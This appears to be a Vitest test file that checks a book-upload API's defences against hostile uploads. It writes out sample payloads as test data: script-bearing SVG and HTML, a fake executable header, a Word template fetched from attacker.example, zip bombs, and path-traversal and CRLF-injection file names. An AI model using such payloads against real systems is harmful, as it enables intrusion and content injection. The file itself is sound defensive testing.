import { readFileSync } from "node:fs";
import { connect } from "node:net";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { books } from "./db/schema.ts";
import { filesUnder, fixture } from "../test/helpers/book-fixtures.ts";
import { type FormPart, multipartBody } from "../test/helpers/multipart.ts";
import { type ListeningApp, type RawResponse, RawHttpClient, type SignedUp, jsonOf, listen, signUp } from "../test/helpers/raw-http.ts";
import { type TestApp, createTestApp } from "../test/helpers/test-app.ts";
import { MACROS, brokenWordDocuments, compoundFile, wordDocument, wordDocumentParts } from "../test/helpers/compound-files.ts";
import { ATTACHED_TEMPLATE, docxPackage, docxParts, largeDocumentXml, zipPackage } from "../test/helpers/word-packages.ts";
import { type WriteSnapshot, rowCounts, settledFiles, takeSnapshot, waitUntil } from "../test/helpers/write-check.ts";
import { logger } from "./system/logger.ts";

/**
 * Hostile uploads (OWASP ASVS 5.0 L2 5.2–5.4; docs/reliability.md#upload-attacks), beyond the refusals of
 * server/books/upload.api.test.ts: content that contradicts its name, polyglots, hostile file
 * names, broken forms, and bodies that stop halfway. A refusal answers JSON and leaves no row and no
 * file, temporary ones included; whatever is kept is stored under a name the server made.
 */

let testApp: TestApp;
let listening: ListeningApp;
let client: RawHttpClient;
let author: SignedUp;
let reader: SignedUp;

const BOUNDARY = "attackBoundary";
const pdf = readFileSync(fixture("book.pdf"));
const docx = readFileSync(fixture("book.docx"));
const jpeg = readFileSync(fixture("cover.jpg"));
const png = readFileSync(fixture("cover.png"));
const windowsExe = Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00\x04\x00", "latin1"), Buffer.alloc(502), Buffer.from("PE\x00\x00", "latin1")]);
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
const html = Buffer.from("<!doctype html><html><body><script>alert(document.domain)</script></body></html>");
/**
 * 17 MB of text, packed about four times. Made before the server listens: deflating it blocks the
 * process for seconds, which a keep-alive connection waiting beside it must not sit through.
 */
const longText = zipPackage(docxParts().map((part) => (part.name === "word/document.xml" ? { ...part, data: largeDocumentXml(17 * 1024 * 1024) } : part)));
/** Server-made names: a UUID and a checked extension for books, a UUID and a width for covers, a Word book's made EPUB named after its file. */
const SERVER_MADE = /\/(books\/[0-9a-f-]{36}\.(pdf|doc|docx)|covers\/[0-9a-f-]{36}-\d{1,4}\.webp|views\/[0-9a-f-]{36}\.epub)$/;

beforeAll(async () => {
  testApp = await createTestApp();
  listening = await listen(testApp.app);
  client = new RawHttpClient(listening.port);
  author = await signUp(client);
  reader = await signUp(client);
});
afterAll(async () => {
  client.close();
  await listening.close();
  await testApp.close();
});

const file = (name: "file" | "coverImage", filename: string, content: Buffer): FormPart => ({ name, filename, content });
const field = (name: string, value: string): FormPart => ({ name, content: Buffer.from(value, "utf8") });
const bookFields = [field("title", "Mañana en París"), field("description", "Una novela."), field("genre", "novela"), field("language", "es")];

function sendForm(parts: FormPart[], { method = "POST", path = "/api/books", cookie = author.cookie } = {}): Promise<RawResponse> {
  return client.send({
    method,
    path,
    headers: { "Content-Type": `multipart/form-data; boundary=${BOUNDARY}`, Cookie: cookie },
    body: multipartBody(parts, BOUNDARY),
  });
}

const upload = (...files: FormPart[]) => sendForm([...bookFields, ...files]);

/** A refusal: the status and code, a sentence, and nothing written, not even a temporary file. */
async function expectRefused(send: () => Promise<RawResponse>, status: number, code: string, fields?: Record<string, string>) {
  const before = await takeSnapshot(testApp);
  const response = await send();
  expect({ status: response.status, body: jsonOf(response) }).toEqual({
    status,
    body: expect.objectContaining({ code, message: expect.stringMatching(/\S/), ...(fields ? { fields: expect.objectContaining(fields) } : {}) }),
  });
  await expectNothingWritten(before);
}

async function expectNothingWritten(before: WriteSnapshot, timeoutMs?: number) {
  expect(await settledFiles(testApp, before.files, timeoutMs)).toBe(before.files);
  expect(await rowCounts(testApp)).toBe(before.rows);
}

/** Every stored file has a name the server made (a temporary file would not match either). */
function expectOnlyServerMadeNames() {
  const stored = filesUnder(testApp.uploadsDir);
  expect(stored.filter((path) => !SERVER_MADE.test(path))).toEqual([]);
}

const bookRow = async (id: number) => (await testApp.database.db.select().from(books).where(eq(books.id, id)))[0]!;

/** An accepted upload: stored under a server-made name, and downloaded only as an attachment of its real type. */
async function expectKeptSafely(response: RawResponse, fileType: "pdf" | "doc" | "docx") {
  expect(response.status, response.body.toString()).toBe(201);
  const { id } = jsonOf(response) as { id: number };
  const row = await bookRow(id);
  expect(row.filePath).toMatch(new RegExp(`^[0-9a-f-]{36}\\.${fileType}$`));
  expect(row.fileName).not.toMatch(/[/\\\p{Cc}]/u);
  const download = await client.send({ method: "POST", path: `/api/books/${id}/download`, headers: { Cookie: reader.cookie } });
  expect(download.status).toBe(200);
  expect(download.headers["content-type"]).toBe(row.mimeType);
  expect(download.headers["x-content-type-options"]).toBe("nosniff");
  expect(download.headers["content-disposition"]).toMatch(/^attachment;/);
  // A Word book's EPUB is made after its upload, through a temporary file of its own: judged once made.
  await testApp.coversDone();
  expectOnlyServerMadeNames();
  return row;
}

describe("content that contradicts its name", () => {
  it.each([
    ["PDF bytes named .docx", pdf, "book.docx"],
    ["PDF bytes named .doc", pdf, "book.doc"],
    ["a Word 2007 document named .doc", docx, "book.doc"],
    ["a Windows executable named .pdf", windowsExe, "book.pdf"],
    ["HTML named .docx", html, "book.docx"],
    ["SVG with a script named .pdf", svg, "book.pdf"],
    ["a zip (a real DOCX) named .pdf", docx, "book.pdf"],
    ["a JPEG named .pdf", jpeg, "book.pdf"],
  ])("refuses %s as the book with 415", async (_label, content, name) => {
    await expectRefused(() => upload(file("file", name, content)), 415, "file_invalid_type", { file: "upload.fileInvalidType" });
  });

  it.each([
    ["a JPEG named .png", jpeg, "cover.png"],
    ["a PNG named .jpg", png, "cover.jpg"],
    ["SVG with a script named .png", svg, "cover.png"],
    ["HTML named .webp", html, "cover.webp"],
    ["an SVG under its own name", svg, "cover.svg"],
  ])("refuses %s as the cover with 415", async (_label, content, name) => {
    await expectRefused(() => upload(file("file", "book.pdf", pdf), file("coverImage", name, content)), 415, "file_invalid_type", { coverImage: "upload.imageInvalidType" });
  });

  it("refuses the same on edit, leaving the book and its cover as they were", async () => {
    const response = await upload(file("file", "book.pdf", pdf), file("coverImage", "cover.png", png));
    const { id, coverImageUrl } = jsonOf(response) as { id: number; coverImageUrl: string };
    await expectRefused(() => sendForm([...bookFields, file("coverImage", "cover.png", jpeg)], { method: "PUT", path: `/api/books/${id}` }), 415, "file_invalid_type");
    expect((await bookRow(id)).coverImageUrl).toBe(coverImageUrl);
  });
});

describe("Word documents that would harm their readers", () => {
  it.each([
    ["a macro-enabled document whose VBA project has an innocent name", "hostile/docx-macro-by-content-type.docx", "document_has_macros", "upload.fileHasMacros"],
    ["a document that attaches a template from a remote address", "hostile/docx-remote-template.docx", "document_reaches_out", "upload.fileReachesOut"],
    ["a document with a part that inflates from 1 MB to 1 GiB", "hostile/docx-zip-bomb.docx", "document_unpacks_too_large", "upload.fileUnpacksTooLarge"],
  ])("refuses %s with 422, keeping nothing", async (_label, name, code, fieldKey) => {
    await expectRefused(() => upload(file("file", "book.docx", readFileSync(fixture(name)))), 422, code, { file: fieldKey });
  });

  const vbaProject = '<Override PartName="/word/media/image1.png" ContentType="application/vnd.ms-office.vbaProject"/>';
  const utf16 = (xml: string) => Buffer.from(`\uFEFF${xml.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, "utf16le");
  const [contentTypes, ...rest] = docxParts({ types: vbaProject });
  it.each([
    ["a VBA project declared in content types written in UTF-16", zipPackage([{ ...contentTypes!, data: utf16(contentTypes!.data as string) }, ...rest]), "document_has_macros"],
    [
      "a remote template whose address holds a '>'",
      docxPackage({ relationships: `<Relationship Id="rId9" Type="${ATTACHED_TEMPLATE}" Target="https://attacker.example/t.dotm?a>b" TargetMode="External"/>` }),
      "document_reaches_out",
    ],
    ["a part that says 1 kB and inflates to 20 MB", zipPackage([...docxParts(), { name: "word/media/image1.png", data: Buffer.alloc(20 << 20), declaredSize: 1000 }]), "document_unpacks_too_large"],
    ["a part that inflates a thousandfold, within the total", zipPackage([...docxParts(), { name: "word/media/image1.png", data: Buffer.alloc(20 << 20) }]), "document_unpacks_too_large"],
  ])("refuses %s with 422, keeping nothing", async (_label, content, code) => {
    await expectRefused(() => upload(file("file", "book.docx", content)), 422, code);
  });

  it.each([["Macros"], ["MACROS"]])("refuses a Word 97 document holding a %s storage", async (storage) => {
    const doc = compoundFile(wordDocumentParts({ extra: [{ ...MACROS, name: storage }] })).bytes;
    await expectRefused(() => upload(file("file", "book.doc", doc)), 422, "document_has_macros", { file: "upload.fileHasMacros" });
  });

  it("refuses a Word 2007 document whose text unpacks past DOCX_DOCUMENT_MAX_MB (16 MB), keeping nothing", async () => {
    await expectRefused(() => upload(file("file", "book.docx", longText)), 422, "document_text_too_large", { file: "upload.fileTextTooLarge" });
  });
});

describe("Word 97 documents whose compound file a reader cannot follow (docs/decisions/0050)", () => {
  it.each(brokenWordDocuments())("refuses %s with 422 document_damaged, keeping nothing", async (_label, bytes) => {
    await expectRefused(() => upload(file("file", "book.doc", bytes)), 422, "document_damaged", { file: "upload.fileDamaged" });
  });

  it("refuses a sound compound file that holds no Word document with 415", async () => {
    const workbook = compoundFile([{ name: "Workbook", data: Buffer.alloc(5000) }]).bytes;
    await expectRefused(() => upload(file("file", "book.doc", workbook)), 415, "file_invalid_type", { file: "upload.fileInvalidType" });
  });

  it.each([
    ["the real Word 97 fixture", "book.doc", readFileSync(fixture("book.doc")), "doc"],
    ["the smallest Word 97 document a reader reads", "book.doc", wordDocument().bytes, "doc"],
    ["the real Word 2007 fixture", "book.docx", docx, "docx"],
  ] as const)("still accepts %s", async (_label, name, content, type) => {
    await expectKeptSafely(await upload(file("file", name, content)), type);
  });
});

describe("polyglots", () => {
  const pdfHtml = Buffer.concat([Buffer.from("%PDF-1.4\n"), html, Buffer.from("\n%%EOF\n")]);

  it("keeps a PDF that is also HTML only as a PDF attachment, never something a browser renders", async () => {
    // The sniffer checks the PDF's signature and trailer, not the whole document: what makes such a
    // file harmless is that it is only ever sent as application/pdf, nosniff, as an attachment.
    await expectKeptSafely(await upload(file("file", "book.pdf", pdfHtml)), "pdf");
  });

  it("refuses a PDF followed by a zip (its end is no PDF trailer)", async () => {
    await expectRefused(() => upload(file("file", "book.pdf", Buffer.concat([pdf, docx]))), 415, "file_invalid_type");
  });

  it("refuses a PDF that is also HTML offered as a Word document", async () => {
    await expectRefused(() => upload(file("file", "book.docx", pdfHtml)), 415, "file_invalid_type");
  });

  it.each([
    ["a JPEG with a script appended", "cover.jpg", Buffer.concat([jpeg, html])],
    ["a PNG with a zip appended", "cover.png", Buffer.concat([png, docx])],
  ])("re-encodes %s: the stored cover holds none of the appended bytes", async (_label, name, content) => {
    const response = await upload(file("file", "book.pdf", pdf), file("coverImage", name, content));
    expect(response.status, response.body.toString()).toBe(201);
    const { coverImageUrl } = jsonOf(response) as { coverImageUrl: string };
    for (const width of [200, 400, 600]) {
      const cover = await client.send({ method: "GET", path: coverImageUrl.replace("-600.webp", `-${width}.webp`) });
      expect(cover.headers["content-type"]).toBe("image/webp");
      expect(cover.body.subarray(0, 4).toString("latin1")).toBe("RIFF");
      expect(cover.body.includes("<script>")).toBe(false);
      expect(cover.body.includes(Buffer.from("PK\x03\x04", "latin1"))).toBe(false);
    }
    expectOnlyServerMadeNames();
  });
});

describe("hostile file names", () => {
  it.each([
    ["climbs folders with slashes", "../../etc/passwd.pdf"],
    ["climbs folders with backslashes", "..\\..\\x.pdf"],
    ["carries CR/LF, escaped as browsers send them", "book%0D%0AContent-Type: text/html.pdf"],
    ["hides its real order behind a right-to-left override", "book\u202Efdp.pdf"],
    ["is very long", `${"a".repeat(5_000)}.pdf`],
    ["is only an extension", ".pdf"],
    ["has a double extension", "book.exe.pdf"],
  ])("keeps a real PDF whose name %s under a server-made name", async (_label, name) => {
    const row = await expectKeptSafely(await upload(file("file", name, pdf)), "pdf");
    expect(row.fileName.length).toBeLessThanOrEqual(255);
  });

  it.each([
    ["a double extension that ends in .exe", "book.pdf.exe", pdf],
    ["a PDF name on an executable", "book.exe.pdf", windowsExe],
    ["a right-to-left override that makes .exe look like .pdf", "book\u202Efdp.exe", pdf],
  ])("refuses %s with 415", async (_label, name, content) => {
    await expectRefused(() => upload(file("file", name, content)), 415, "file_invalid_type");
  });

  it("refuses a name whose part header is too long to read, with 400", async () => {
    await expectRefused(() => upload(file("file", `${"a".repeat(20_000)}.pdf`, pdf)), 400, "malformed_multipart");
  });

  it.each([
    ["a raw line break", "book\r\nContent-Type: text/html\r\n.pdf"],
    ["a NUL byte", "book\u0000.exe.pdf"],
  ])("refuses a file name with %s (the part header cannot be read) with 400", async (_label, name) => {
    await expectRefused(() => upload(file("file", name, pdf)), 400, "malformed_multipart");
  });

  it("treats a name that is nothing but a folder climb as no file at all", async () => {
    await expectRefused(() => upload(file("file", "..", pdf)), 400, "validation_failed", { file: "upload.fileRequired" });
  });
});

describe("zero-byte files", () => {
  it.each([["book.docx"], ["book.doc"], ["book.pdf"]])("refuses an empty %s with 415", async (name) => {
    await expectRefused(() => upload(file("file", name, Buffer.alloc(0))), 415, "file_invalid_type");
  });

  it("refuses an empty cover with 415", async () => {
    await expectRefused(() => upload(file("file", "book.pdf", pdf), file("coverImage", "cover.png", Buffer.alloc(0))), 415, "file_invalid_type", { coverImage: "upload.imageInvalidType" });
  });
});

describe("forms with too much, too little or the wrong thing", () => {
  it("refuses more text fields than a form has with 400 too_many_parts", async () => {
    const extra = Array.from({ length: 12 }, (_, index) => field(`note${index}`, "x"));
    await expectRefused(() => sendForm([...extra, file("file", "book.pdf", pdf)]), 400, "too_many_parts");
  });

  it("refuses more parts than the limit, even parts no field reads, with 400 too_many_parts", async () => {
    const anonymousPart = `--${BOUNDARY}\r\nContent-Type: text/plain\r\n\r\nx\r\n`;
    const body = Buffer.concat([Buffer.from(anonymousPart.repeat(30)), multipartBody([...bookFields, file("file", "book.pdf", pdf)], BOUNDARY)]);
    await expectRefused(
      () => client.send({ method: "POST", path: "/api/books", headers: { "Content-Type": `multipart/form-data; boundary=${BOUNDARY}`, Cookie: author.cookie }, body }),
      400,
      "too_many_parts",
    );
  });

  it.each([
    ["a file in a text field", { name: "title", filename: "title.pdf", content: pdf }],
    ["a second cover", file("coverImage", "cover.png", png)],
  ])("refuses %s with 400 unexpected_file", async (_label, extra) => {
    await expectRefused(() => upload(file("file", "book.pdf", pdf), file("coverImage", "cover.png", png), extra), 400, "unexpected_file");
  });

  it("refuses a book file sent as plain text instead of a file", async () => {
    await expectRefused(() => sendForm([...bookFields, field("file", pdf.toString("latin1"))]), 400, "validation_failed", { file: "upload.fileRequired" });
  });

  it("refuses a repeated title rather than picking one", async () => {
    await expectRefused(() => sendForm([...bookFields, field("title", "Another"), file("file", "book.pdf", pdf)]), 400, "validation_failed", { title: "validation.titleRequired" });
  });

  it("refuses a book file on edit, leaving the book as it was", async () => {
    const { id } = jsonOf(await upload(file("file", "book.pdf", pdf))) as { id: number };
    // Its first page becomes its cover after the answer; the refused edit must then change nothing.
    await testApp.coversDone();
    const before = await bookRow(id);
    await expectRefused(() => sendForm([...bookFields, file("file", "book.pdf", pdf)], { method: "PUT", path: `/api/books/${id}` }), 400, "unexpected_file");
    expect(await bookRow(id)).toEqual(before);
  });
});

/** Starts an upload on a raw socket: the headers promise `declared` body bytes, of which `sent` go now. */
function startUpload(port: number, declared: number, sent: Buffer) {
  const socket = connect(port, "127.0.0.1");
  socket.on("error", () => {});
  socket.write(
    `POST /api/books HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: ${author.cookie}\r\nContent-Type: multipart/form-data; boundary=${BOUNDARY}\r\nContent-Length: ${declared}\r\n\r\n`,
  );
  socket.write(sent);
  const closedByServer = new Promise<number>((resolve) => socket.on("close", () => resolve(Date.now())));
  return { socket, closedByServer };
}

/** The first bytes of a large book form: the fields, then a file part that has only begun. */
function halfSentForm(fileBytes: number) {
  const whole = multipartBody([...bookFields, file("file", "book.pdf", Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(fileBytes, 0x20)]))], BOUNDARY);
  return { declared: whole.length, firstHalf: whole.subarray(0, Math.floor(whole.length / 2)) };
}

const tempFiles = () => filesUnder(testApp.store.temp.dir);

describe("bodies that stop halfway", () => {
  it("cleans up when the client drops the connection mid-upload: no temporary file, no row, no server error", async () => {
    const serverErrors = vi.spyOn(logger, "error");
    const before = await takeSnapshot(testApp);
    const { declared, firstHalf } = halfSentForm(4 * 1024 * 1024);
    const { socket } = startUpload(listening.port, declared, firstHalf);
    // The server is mid-write: its temporary file exists.
    expect(await waitUntil(() => tempFiles().length > 0, 5_000)).toBe(true);
    socket.destroy();
    await expectNothingWritten(before, 5_000);
    // The client left: that is no internal error to log (it was, with a stack, before).
    expect(serverErrors).not.toHaveBeenCalled();
    serverErrors.mockRestore();
  });

  it("answers a form cut off inside a file part with 400, every time, once its temporary file is gone", async () => {
    // Regressions found by the fuzzer: the storage calling back after the answer made the cleanup read
    // multer's placeholder and throw (an uncaught exception: the whole server went down); and the
    // part's temporary file could be created just after the answer (its open was under way).
    const whole = multipartBody([...bookFields, file("file", "book.pdf", pdf)], BOUNDARY);
    const before = await takeSnapshot(testApp);
    for (let attempt = 0; attempt < 20; attempt += 1) {
      const cut = whole.subarray(0, whole.length - 200 - attempt * 997);
      const response = await client.send({ method: "POST", path: "/api/books", headers: { "Content-Type": `multipart/form-data; boundary=${BOUNDARY}`, Cookie: author.cookie }, body: cut });
      expect({ status: response.status, code: (jsonOf(response) as { code: string }).code }).toEqual({ status: 400, code: "malformed_multipart" });
      expect(tempFiles()).toEqual([]);
      await new Promise((resolve) => setTimeout(resolve, 20));
      expect(tempFiles()).toEqual([]);
    }
    await expectNothingWritten(before);
  });

  it("closes a connection whose upload stalls, and removes what it had received", async () => {
    const idleMs = 500;
    const stalling = await listen(testApp.app, { headersMs: 5_000, requestMs: 60_000, idleMs });
    try {
      const before = await takeSnapshot(testApp);
      const { declared, firstHalf } = halfSentForm(1024 * 1024);
      const startedAt = Date.now();
      const { socket, closedByServer } = startUpload(stalling.port, declared, firstHalf);
      expect(await waitUntil(() => tempFiles().length > 0, 5_000)).toBe(true);
      const closedAt = await closedByServer;
      expect(closedAt - startedAt).toBeGreaterThanOrEqual(idleMs);
      expect(closedAt - startedAt).toBeLessThan(idleMs + 5_000);
      expect(socket.destroyed).toBe(true);
      await expectNothingWritten(before, 5_000);
    } finally {
      await stalling.close();
    }
  });

  it("leaves no temporary file after all of the above", async () => {
    // The EPUBs of the Word books accepted above are written to temporary files until stored.
    await testApp.coversDone();
    expect(await waitUntil(() => tempFiles().length === 0, 2_000)).toBe(true);
    expectOnlyServerMadeNames();
  });
});
